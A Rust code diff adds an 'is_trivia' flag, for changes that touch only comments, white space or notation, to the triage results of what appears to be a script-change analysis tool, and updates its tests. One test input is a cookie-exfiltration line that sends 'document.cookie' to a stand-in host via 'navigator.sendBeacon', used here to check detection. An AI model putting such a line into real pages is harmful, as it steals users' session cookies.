@@ -49,6 +49,8 @@ pub(super) struct Triaged {
     pub(super) summary: Vec<Point>,
     /// That nothing new was found, and what that does not mean.
     pub(super) nothing_new: Option<String>,
+    /// Comments, white space or notation alone differ.
+    pub(super) is_trivia: bool,
     pub(super) domains: Vec<Domain>,
     pub(super) more_hosts: usize,
     pub(super) groups: Vec<Grouped>,
@@ -177,6 +179,7 @@ impl Triaged {
             amount: amount(findings, verified.is_some()),
             nothing_new: nothing_new(findings, &mut points),
             summary: points,
+            is_trivia: findings.change == Change::Trivia,
             domains: domains(&findings.hosts, &shown),
             more_hosts: findings.hosts.len().saturating_sub(HOSTS),
             groups: groups(&findings.facts, verified.is_some(), &shown),
@@ -456,6 +459,7 @@ mod tests {
                 "{nothing}"
             );
             assert!(quiet.summary.is_empty(), "it is said once");
+            assert_eq!(quiet.is_trivia, new.contains("//"), "{new}");
         }
         let loud = found("f(1);", "f(1); navigator.sendBeacon('https://a.test/', document.cookie)");
         assert!(loud.nothing_new.is_none() && !loud.summary.is_empty());
